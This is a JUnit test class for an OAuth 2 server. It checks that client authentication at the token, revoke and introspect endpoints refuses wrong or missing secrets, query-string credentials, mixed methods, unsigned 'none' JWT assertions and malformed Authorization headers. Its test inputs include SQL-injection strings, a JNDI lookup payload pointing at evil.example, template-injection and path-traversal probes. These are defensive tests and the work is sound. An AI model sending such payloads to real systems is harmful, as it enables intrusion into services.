package dev.gatewright.token;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gatewright.ClientBuilder;
import dev.gatewright.CodeFlow;
import dev.gatewright.Http;
import dev.gatewright.RawHttp;
import dev.gatewright.TestClient;
import dev.gatewright.TestServer;
import dev.gatewright.TestUsers;
import dev.gatewright.Tokens;
import dev.gatewright.user.User;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Clients that pretend, at the endpoints where clients authenticate (RFC 6749 §2.3, OAuth 2.1 §2.4,
 * RFC 9700 §2.5).
 */
class ClientAuthenticationTest {
  private static final Map<String, String> OWN = Map.of("grant_type", "client_credentials");
  private static final String[] ENDPOINTS = {
    "/oauth2/token", "/oauth2/revoke", "/oauth2/introspect"
  };

  private static TestServer server;
  private static TestClient machine;
  private static TestClient poster;
  private static TestClient app;
  private static User user;

  @BeforeAll
  static void start() {
    server = TestServer.start();
    user = new TestUsers(server).user();
    machine = ClientBuilder.machine(server).register();
    poster = ClientBuilder.machine(server).authMethod("client_secret_post").register();
    app = ClientBuilder.nativeApp(server).register();
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  @Test
  void rightSecretByTheRightMethodIsTaken() {
    assertEquals(200, machine.token(OWN).statusCode());
    assertEquals(
        200,
        form(with(OWN, "client_id", poster.clientId(), "client_secret", poster.secret()))
            .statusCode());
  }

  /** RFC 6749 §3.2.1. */
  @Test
  void confidentialClientWithoutItsSecretIsRefused() {
    for (String endpoint : ENDPOINTS) {
      assertInvalidClient(post(endpoint, with(OWN, "client_id", machine.clientId(), "token", "x")));
      assertInvalidClient(post(endpoint, with(OWN, "client_id", poster.clientId(), "token", "x")));
      assertInvalidClient(post(endpoint, with(OWN, "token", "x")));
    }
  }

  @Test
  void wrongSecretsAreRefused() {
    for (String wrong :
        new String[] {
          "",
          " ",
          "wrong",
          machine.secret() + "x",
          machine.secret().substring(1),
          poster.secret(),
          "' or 1=1 --",
          "*"
        }) {
      assertInvalidClient(basic(machine.clientId(), wrong));
      if (!wrong.equals(poster.secret())) {
        assertInvalidClient(
            form(with(OWN, "client_id", poster.clientId(), "client_secret", wrong)));
      }
    }
  }

  /** RFC 6749 §5.2: who does not exist is not told from who has another secret. */
  @Test
  void unknownClientAndWrongSecretAreOneAnswer() {
    HttpResponse<String> wrong = basic(machine.clientId(), "wrong");
    HttpResponse<String> unknown = basic("no-such-client", "wrong");

    assertEquals(wrong.body(), unknown.body());
    assertEquals(wrong.statusCode(), unknown.statusCode());
  }

  /** OAuth 2.1 §2.4.1: secrets do not belong into URLs. */
  @Test
  void credentialsInTheQueryAreRefused() {
    for (String endpoint : ENDPOINTS) {
      HttpResponse<String> response =
          post(
              endpoint + "?client_id=" + poster.clientId() + "&client_secret=" + poster.secret(),
              with(OWN, "token", "x"));
      assertRefused(response);
    }
    assertRefused(
        post(
            "/oauth2/token?client_secret=" + poster.secret(),
            with(OWN, "client_id", poster.clientId())));
    assertRefused(
        new Http(server)
            .form("/oauth2/token?client_id=" + machine.clientId(), OWN, machine.authentication()));
  }

  /** The parameters of a token request are in its body (RFC 6749 §3.2). */
  @Test
  void parametersInTheQueryDoNotCount() {
    HttpResponse<String> response =
        new Http(server)
            .form(
                "/oauth2/token?grant_type=client_credentials",
                Map.of("scope", "users:read"),
                machine.authentication());

    assertEquals("invalid_request", Http.body(400, response).get("error").asText());
  }

  @Test
  void basicUserThatDiffersFromTheBodyIsRefused() {
    assertRefused(
        new Http(server)
            .form(
                "/oauth2/token",
                with(OWN, "client_id", poster.clientId()),
                machine.authentication()));
    assertRefused(
        new Http(server)
            .form(
                "/oauth2/token", with(OWN, "client_id", app.clientId()), machine.authentication()));
  }

  /** RFC 6749 §2.3: one method in each request. */
  @Test
  void twoMethodsAtOnceAreRefused() {
    HttpResponse<String> response =
        new Http(server)
            .form(
                "/oauth2/token",
                with(OWN, "client_id", machine.clientId(), "client_secret", machine.secret()),
                machine.authentication());

    assertEquals("invalid_request", Http.body(400, response).get("error").asText());
  }

  /** RFC 7591 §2: the method of the registration, and no other. */
  @Test
  void methodsOtherThanTheRegisteredOneAreRefused() {
    assertInvalidClient(
        form(with(OWN, "client_id", machine.clientId(), "client_secret", machine.secret())));
    assertInvalidClient(basic(poster.clientId(), poster.secret()));
  }

  /** Client confusion: a secret does not make a public client confidential. */
  @Test
  void publicClientWithAMadeUpSecretIsRefused() {
    CodeFlow flow = app.flow().with("scope", "openid user:read offline_access");
    String refreshToken = flow.tokens(user).refresh();
    Map<String, String> refresh =
        Map.of("grant_type", "refresh_token", "refresh_token", refreshToken);

    assertInvalidClient(
        form(with(refresh, "client_id", app.clientId(), "client_secret", "made-up")));
    assertInvalidClient(
        new Http(server)
            .form(
                "/oauth2/token",
                refresh,
                "Authorization",
                TestClient.basic(app.clientId(), "made-up")));
    assertInvalidClient(
        new Http(server)
            .form("/oauth2/token", refresh, "Authorization", TestClient.basic(app.clientId(), "")));
    assertEquals(200, app.refresh(refreshToken).statusCode(), "the refresh token was not used up");
  }

  /**
   * RFC 6749 §6: the refresh token of a confidential client is worth nothing without its secret.
   */
  @Test
  void confidentialClientWithoutItsSecretCannotRefresh() {
    TestClient web = ClientBuilder.web(server).register();
    Tokens tokens = web.flow().with("scope", "openid offline_access").tokens(user);
    Map<String, String> refresh =
        Map.of("grant_type", "refresh_token", "refresh_token", tokens.refresh());

    assertInvalidClient(form(with(refresh, "client_id", web.clientId())));
    assertInvalidClient(form(refresh));
    assertEquals(200, web.refresh(tokens.refresh()).statusCode());
  }

  /** RFC 7523 §3: an assertion that nobody signed proves nothing. */
  @Test
  void unsignedAssertionIsRefused() {
    String claims =
        "{\"iss\":\"%1$s\",\"sub\":\"%1$s\",\"aud\":\"%2$s/oauth2/token\",\"exp\":9999999999,\"jti\":\"1\"}"
            .formatted(machine.clientId(), server.issuer());
    String assertion = base64("{\"alg\":\"none\"}") + "." + base64(claims) + ".";
    Map<String, String> request =
        with(
            OWN,
            "client_assertion_type",
            "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
            "client_assertion",
            assertion);

    assertInvalidClient(form(request));
    assertInvalidClient(form(with(request, "client_id", machine.clientId())));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Basic",
        "Basic ",
        "Basic !!!!",
        "Basic bm9jb2xvbg==",
        "Basic Og==",
        "Basic OnNlY3JldA==",
        "Basic JXp6OiU=",
        "Basic JTAwOiUwMA==",
        "Basic /////w==",
        "Basic AAAA",
        "Basic YTpi YTpi",
        "Bearer abc",
        "Bearer",
        "Digest username=\"x\"",
        "Negotiate abc",
        "basic",
        ",",
        "Basic YTpi, Basic YTpi",
        "\"",
        "Basic ${jndi:ldap://evil.example/x}"
      })
  void malformedAuthorizationIsRefused(String authorization) {
    for (String endpoint : ENDPOINTS) {
      assertRefused(
          new Http(server).form(endpoint, with(OWN, "token", "x"), "Authorization", authorization));
    }
  }

  @Test
  void longAuthorizationIsRefused() {
    assertRefused(basic(machine.clientId(), "x".repeat(8000)));
  }

  @Test
  void twoAuthorizationHeadersAreRefused() {
    String body = "grant_type=client_credentials";
    String authorization =
        "Authorization: " + TestClient.basic(machine.clientId(), machine.secret()) + "\r\n";
    RawHttp.Reply reply =
        RawHttp.send(
            server,
            "POST /oauth2/token HTTP/1.1\r\nHost: "
                + RawHttp.host(server)
                + "\r\n"
                + authorization
                + authorization
                + "Content-Type: application/x-www-form-urlencoded\r\n"
                + "Connection: close\r\n"
                + "Content-Length: "
                + body.length()
                + "\r\n\r\n"
                + body);

    assertTrue(reply.status() == 400 || reply.status() == 401, reply.text());
    assertFalse(reply.text().contains("access_token"), reply.text());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"' or '1'='1", "%", "*", "a\u0000b", "日本語", "${7*7}", "a:b", "../x", "<b>"})
  void strangeClientIdsAreRefused(String clientId) {
    assertRefused(form(with(OWN, "client_id", clientId, "client_secret", "x")));
    assertRefused(basic(clientId, "x"));
  }

  /** The secret of a token request is echoed nowhere. */
  @Test
  void refusalsDoNotRepeatWhatWasSent() {
    HttpResponse<String> response = basic(machine.clientId(), "a-very-telling-secret");

    assertFalse(response.body().contains("a-very-telling-secret"), response.body());
    assertFalse(
        response.headers().toString().contains("a-very-telling-secret"),
        response.headers().toString());
  }

  private static HttpResponse<String> basic(String clientId, String secret) {
    return new Http(server)
        .form("/oauth2/token", OWN, "Authorization", TestClient.basic(clientId, secret));
  }

  private static HttpResponse<String> form(Map<String, String> form) {
    return post("/oauth2/token", form);
  }

  private static HttpResponse<String> post(String path, Map<String, String> form) {
    return new Http(server).form(path, form);
  }

  private static void assertInvalidClient(HttpResponse<String> response) {
    assertEquals("invalid_client", Http.body(401, response).get("error").asText());
    assertTrue(
        Http.header(response, "WWW-Authenticate").startsWith("Basic"), "RFC 6749 section 5.2");
    assertEquals("no-store", Http.header(response, "Cache-Control"));
  }

  private static void assertRefused(HttpResponse<String> response) {
    assertTrue(
        response.statusCode() == 400 || response.statusCode() == 401,
        response.statusCode() + response.body());
    assertFalse(response.body().contains("access_token"), response.body());
  }

  private static String base64(String text) {
    return Base64.getUrlEncoder()
        .withoutPadding()
        .encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  private static Map<String, String> with(Map<String, String> form, String... namesAndValues) {
    Map<String, String> changed = new HashMap<>(form);
    for (int i = 0; i < namesAndValues.length; i += 2) {
      changed.put(namesAndValues[i], namesAndValues[i + 1]);
    }
    return changed;
  }
}
